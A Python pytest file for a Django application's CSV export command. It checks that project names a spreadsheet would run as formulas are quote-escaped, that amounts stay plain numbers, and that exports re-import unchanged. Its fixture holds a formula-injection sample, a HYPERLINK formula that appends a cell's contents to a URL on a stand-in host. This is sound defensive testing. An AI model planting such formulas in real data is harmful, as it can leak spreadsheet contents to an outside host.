"""The application export (export_applications, in the import format) writes no formulas, and reads back."""

import csv
import io

import pytest
from django.core.management import call_command

from applications import importing
from applications.models import Application
from applications.selectors import application_rows, exchange_columns
from tests.factories import ApplicationFactory, TrancheFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Klik")'


@pytest.fixture
def tranche():
    tranche = TrancheFactory()
    ApplicationFactory(submitted=True, tranche=tranche, project_name=FORMULA)
    ApplicationFactory(submitted=True, tranche=tranche, project_name="@SUM(1+1)")
    ApplicationFactory(submitted=True, tranche=tranche, project_name="Het Baken")
    return tranche


def exported_csv(tranche) -> list[dict[str, str]]:
    out = io.StringIO()
    call_command("export_applications", "--tranche", tranche.slug, stdout=out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_the_csv_export_quotes_text_that_a_spreadsheet_would_run_as_a_formula(tranche):
    names = [row["project_name"] for row in exported_csv(tranche)]

    assert names == ["'" + FORMULA, "'@SUM(1+1)", "Het Baken"]


def test_amounts_and_units_stay_plain_numbers(tranche):
    row = exported_csv(tranche)[0]

    assert (row["units"], row["requested_amount"]) == ("10", "70000.00")


def test_an_exported_file_imports_with_the_names_as_they_were(tranche):
    rows = list(application_rows(tranche=tranche))
    for row in rows:
        row["reference"] = "NIEUW-" + row["reference"]
    stream = io.StringIO()
    writer = csv.DictWriter(stream, fieldnames=exchange_columns(tranche=tranche))
    writer.writeheader()
    writer.writerows(rows)
    stream.seek(0)
    other = TrancheFactory(opens_at=tranche.opens_at, closes_at=tranche.closes_at)

    importing.import_applications(tranche=other, stream=stream, source="export.csv")

    names = set(Application.objects.filter(tranche=other).values_list("project_name", flat=True))
    assert names == {FORMULA, "@SUM(1+1)", "Het Baken"}
